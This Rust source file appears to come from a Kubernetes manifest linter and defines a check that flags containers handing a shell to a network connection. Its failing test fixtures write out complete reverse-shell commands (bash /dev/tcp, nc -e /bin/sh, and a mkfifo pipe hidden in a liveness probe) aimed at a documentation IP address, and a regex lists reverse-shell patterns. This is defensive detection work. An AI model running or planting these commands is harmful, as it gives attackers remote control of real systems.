//! A shell tied to a connection.

use std::sync::LazyLock;

use catseye_model::PodView;
use regex::Regex;

use super::script::{entrypoint, hooks};
use crate::check::check;
use crate::context::Context;
use crate::findings::Findings;

check! {
    /// A container ties a shell to a network connection
    ///
    /// `nc -e /bin/sh`, `bash -i >& /dev/tcp/…` and their like hand a shell in the pod to whoever is at
    /// the other end. No application needs that: the manifest is a back door, or the trace of one.
    ///
    /// **Fix:** Treat the workload as compromised: find out who wrote it, isolate its pods with a
    /// NetworkPolicy, keep their evidence and rotate the secrets that they could read.
    "POD-333" {
        severity: Critical,
        rows: ["A33"],
        fails: [
            r"
apiVersion: batch/v1
kind: CronJob
metadata: {name: a}
spec:
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - {name: app, image: i, command: [bash, -c, 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']}
",
            r"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers:
  - {name: app, image: i, command: [nc, 203.0.113.7, '4444', -e, /bin/sh]}
",
            r"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers:
  - name: app
    image: i
    livenessProbe: {exec: {command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 80 > /tmp/f']}}
",
        ],
        passes: [
            r"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  initContainers:
  - {name: wait, image: i, command: [bash, -c, 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done']}
  - {name: wait-nc, image: i, command: [sh, -c, 'until nc -z -w 2 db 5432; do sleep 1; done']}
  containers:
  - {name: interactive, image: i, command: [bash, -i]}
  - {name: greets, image: i, command: [nc, -lk, -p, '8080', -e, /bin/cat]}
",
        ],
        run: Pods(run),
    }
}

static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        \b(ba|da|z|k|a)?sh \s+ -i\b [^;\n]* /dev/(tcp|udp)/
        | \b(nc|ncat|netcat)(\.\w+)?\b [^|;&\n]* \s (-[a-z]*[ec]|--exec|--sh-exec) [\s=]+
            (/\S*/)? ((ba|da|z|k|a)?sh|cmd(\.exe)?|powershell(\.exe)?) \b
        | \bsh \s+ -i\b [^;\n]* \| \s* (nc|ncat|netcat|telnet|openssl)\b
        | \bsocat\b [^|;&\n]* \b(exec|system):[^\s,]*sh\b
        | \bsocket\b .* \b(dup2|pty\.spawn|subprocess)\b .* \bsh\b
        ",
    )
    .expect("the pattern is valid")
});

fn run(pod: &PodView<'_>, _: &Context<'_>, found: &mut Findings) {
    for container in &pod.containers {
        for word in entrypoint(container).chain(hooks(container)) {
            // One script, or the words of a command without shell, joined.
            let matched = if is_connector(word.text) {
                let line: Vec<&str> = container.words().map(|(_, text)| text).collect();
                REVERSE_SHELL.is_match(&line.join(" "))
            } else {
                mentions_connection(word.text) && REVERSE_SHELL.is_match(word.text)
            };
            if matched {
                found.in_container_at(
                    container,
                    word.path(container),
                    "ties a shell to a network connection",
                );
            }
        }
    }
}

fn is_connector(word: &str) -> bool {
    let program = word.rsplit('/').next().unwrap_or(word);
    matches!(program, "nc" | "ncat" | "netcat" | "socat")
}

fn mentions_connection(script: &str) -> bool {
    [
        "/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "telnet", "openssl", "socat", "socket",
    ]
    .iter()
    .any(|word| script.contains(word))
}
